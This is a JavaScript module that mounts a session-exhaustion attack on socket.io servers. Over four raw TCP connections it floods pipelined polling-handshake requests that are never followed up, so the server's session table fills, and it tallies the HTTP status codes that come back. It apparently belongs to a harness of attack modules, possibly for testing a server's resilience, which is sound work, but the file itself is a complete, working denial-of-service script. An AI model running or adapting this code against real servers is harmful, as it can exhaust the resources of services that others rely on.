// Fills the table of sessions: polling handshakes, pipelined, none of them ever polled.
import { RawSocket } from '../websocket.js';

export const what = 'polling handshakes that are never polled';

const connections = 4;
const batch = 32;

export async function attack({ target, seconds }) {
  const counts = {};
  const request = `GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n\r\n`.repeat(batch);
  const end = Date.now() + seconds * 1000;
  await Promise.all(Array.from({ length: connections }, async () => {
    while (Date.now() < end) {
      const raw = await RawSocket.tcp(target).catch(() => null);
      if (!raw) continue;
      let answered = 0;
      let more;
      raw.tcp.on('data', data => {
        for (const [, status] of data.toString('latin1').matchAll(/HTTP\/1\.1 (\d+)/g)) {
          counts[status] = (counts[status] ?? 0) + 1;
          answered++;
        }

        if (answered >= batch) more?.();
      });
      raw.tcp.once('close', () => more?.());
      while (Date.now() < end && !raw.isClosed) {
        answered = 0;
        raw.tcp.write(request);
        await new Promise(resolve => {
          more = resolve;
          setTimeout(resolve, 1000);
        });
      }

      raw.tcp.destroy();
    }
  }));
  return counts;
}
